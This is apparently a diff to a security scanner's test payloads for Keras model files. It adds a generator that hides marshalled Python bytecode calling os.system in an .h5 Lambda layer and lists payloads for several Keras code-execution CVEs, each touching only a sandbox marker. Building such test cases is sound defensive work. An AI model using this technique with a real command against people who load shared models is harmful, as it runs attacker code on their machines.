@@ -25,6 +25,7 @@ from __future__ import annotations
 import base64
 import io
 import json
+import marshal
 import os
 import pickle
 import struct
@@ -269,6 +270,29 @@ def _lambda_list_form(payload: Payload, out: Path) -> None:
         inner = _layers(config)[-1]["config"]
         inner["function"] = [inner["function"]["config"]["code"], None, None]
         inner.update(function_type="lambda", module="__main__", output_shape_type="raw")
+
+    _edit_config(payload.path(out), edit)
+
+
+def _system_function(marker: Path) -> Callable[[Any], Any]:
+    """A named function (a ``def``) whose bytecode runs ``os.system('touch <marker>')``."""
+    namespace: dict[str, Any] = {"os": os}
+    source = f"def scale(x):\n    os.system({'touch ' + str(marker)!r})\n    return x\n"
+    exec(source, namespace)  # the harmless payload itself
+    function: Callable[[Any], Any] = namespace["scale"]
+    return function
+
+
+def _lambda_os_system(payload: Payload, out: Path) -> None:
+    """A Keras 2 (tf-keras list form) .h5 Lambda whose bytecode, a ``def``, calls os.system."""
+    keras = _keras()
+    _save(_dense_model(keras.layers.Lambda(lambda x: x)), payload, out)
+    code = marshal.dumps(_system_function(payload.marker(out)).__code__)
+
+    def edit(config: dict[str, Any]) -> None:
+        inner = _layers(config)[-1]["config"]
+        inner["function"] = [base64.b64encode(code).decode("ascii"), None, None]
+        inner.update(function_type="lambda", module="preprocessing", output_shape_type="raw")
 
     _edit_config(payload.path(out), edit)
 
@@ -691,6 +715,8 @@ def _group_cycle(handle: Any, kernel: str, sandbox: Path) -> None:
 # --- the payloads ---------------------------------------------------------------------------------
 
 _LAMBDA = "Lambda layer holding Python bytecode"
+# Their bytecode calls open(): refused with safe_mode=False too (kerascope._audit.scan_lambda).
+_LAMBDA_OPEN = ("lambda", "lambda-bytecode-dangerous-names")
 _STDLIB = "config names a standard-library function as a layer or activation"
 _GADGET = "Keras non-modeling API used as a gadget"
 _TORCH = "TorchModuleWrapper carrying a base64 pickle"
@@ -708,15 +734,20 @@ _CALLABLE = "public Keras callable that is not a modeling object"
 _KERAS_CALLABLE_ADVISORY = "hardening (Keras's non-modeling list misses it)"
 
 PAYLOADS: tuple[Payload, ...] = (
-    Payload("lambda-keras", "lambda.keras", "CVE-2024-3660", _LAMBDA, ("lambda",),
+    Payload("lambda-keras", "lambda.keras", "CVE-2024-3660", _LAMBDA, _LAMBDA_OPEN,
             f"Lambda(lambda x: ...) saved by Keras; {_TOUCH}", _lambda, try_unsafe=True),
     Payload("lambda-h5", "lambda.h5", "CVE-2024-3660, CVE-2025-9905", _LAMBDA + " (legacy .h5)",
-            ("lambda",), f"the same Lambda saved as legacy .h5; {_TOUCH}", _lambda,
+            _LAMBDA_OPEN, f"the same Lambda saved as legacy .h5; {_TOUCH}", _lambda,
             try_unsafe=True),
     Payload("lambda-h5-list-form", "lambda_list_form.h5", "CVE-2024-3660, CVE-2025-9905",
-            _LAMBDA + " (tf.keras list form in .h5)", ("lambda",),
+            _LAMBDA + " (tf.keras list form in .h5)", _LAMBDA_OPEN,
             f"the Lambda rewritten as tf.keras writes it, [code, defaults, closure]; {_TOUCH}",
             _lambda_list_form, try_unsafe=True),
+    Payload("lambda-os-system-h5", "lambda_os_system.h5", "CVE-2024-3660, CVE-2025-9905",
+            _LAMBDA + " (Keras 2 named function calling os.system, .h5)",
+            ("lambda", "lambda-bytecode-dangerous-names"),
+            "a tf-keras Lambda over a def whose bytecode runs os.system('touch <sandbox marker>')",
+            _lambda_os_system, try_unsafe=True),
     Payload("stdlib-layer-keras", "stdlib_layer.keras", "CVE-2025-1550", _STDLIB,
             ("stdlib-object",),
             "a layer entry names os.system with the command 'touch <sandbox marker>'",
